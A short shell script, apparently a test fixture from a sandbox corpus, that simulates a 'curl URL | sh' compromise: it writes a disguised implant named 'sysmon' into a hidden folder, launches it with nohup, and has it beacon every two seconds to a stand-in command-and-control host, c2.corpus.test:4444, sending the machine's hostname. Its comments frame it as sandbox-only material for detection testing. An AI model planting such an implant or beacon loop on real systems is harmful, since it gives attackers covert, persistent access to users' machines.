#!/bin/sh
# sysmon.sh - the corpus' connect-back scenario (corpus/README.md).
#
# Run by the vulnerable client `curl URL | sh` inside a sandbox guest, as the
# guest user: it installs an implant, ~/.local/share/.sysmon/sysmon, and
# starts it.  The implant calls home over TCP: every 2 s it asks
# http://c2.corpus.test:4444/beacon?host=NAME for a "command" with curl (the
# guests' DNS stub resolves every name to 10.201.255.1, the services
# namespace), and only reads the answer.  curl connects without blocking, so
# the attempt is seen whether anyone answers or not; corpus-check.sh and
# demo.sh run a second capture-corpusd on that port, serving
# corpus/listener/, which answers and logs the beacons.  Traffic never leaves
# the services namespace; the implant runs until the guest is killed.
# Never run it outside a sandbox guest.
set -u
dir="$HOME/.local/share/.sysmon"
mkdir -p "$dir"
cat > "$dir/sysmon" <<'IMPLANT'
#!/bin/sh
# sysmon - corpus implant: beacons to c2.corpus.test:4444 until killed.
while :; do
	curl -s -m 2 -o /dev/null "http://c2.corpus.test:4444/beacon?host=$(hostname)"
	sleep 2
done
IMPLANT
chmod 755 "$dir/sysmon"
nohup "$dir/sysmon" >/dev/null 2>&1 &
exit 0
